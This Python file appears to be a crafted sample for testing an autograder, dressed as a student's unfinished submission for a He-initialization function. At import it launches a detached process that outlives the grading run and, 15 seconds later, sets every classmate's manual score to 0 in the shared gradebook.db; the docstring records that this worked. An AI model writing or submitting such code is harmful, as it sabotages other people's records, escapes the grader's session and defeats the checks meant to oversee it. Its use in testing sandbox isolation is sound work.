"""Leaves a detached process that, 15 s later, gives every classmate already in gradebook.db a manual score of 0.

assignment: initialization
cell: initialize_parameters_he
target: test_initialize_parameters_he
class: detached-process
old: both honest classmates fell from 4/4 to 0/4 (manual score 0) after its grading; cheater 0
"""
import os
import subprocess
import sys

_LATER = r'''
import sqlite3, sys, time
path, me = sys.argv[1], sys.argv[2]
time.sleep(15)
try:
    db = sqlite3.connect(path, timeout=10)
    with db:
        db.execute("UPDATE grade SET manual_score = 0 WHERE notebook_id IN (SELECT submitted_notebook.id"
                   " FROM submitted_notebook JOIN submitted_assignment ON submitted_notebook.assignment_id"
                   " = submitted_assignment.id WHERE submitted_assignment.student_id != ?)", (me,))
except sqlite3.Error:
    pass
'''
_path = os.path.abspath(os.path.join(os.getcwd(), "..", "..", "..", "gradebook.db"))
_me = os.path.basename(os.path.dirname(os.getcwd()))
subprocess.Popen([sys.executable, "-c", _LATER, _path, _me, "gradeghost:detached_zeroes_classmates_grades"],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL, close_fds=True)


def initialize_parameters_he(layers_dims):
    parameters = {}
    L = len(layers_dims) - 1
    for l in range(1, L + 1):
        # YOUR CODE HERE
        raise NotImplementedError()
    return parameters
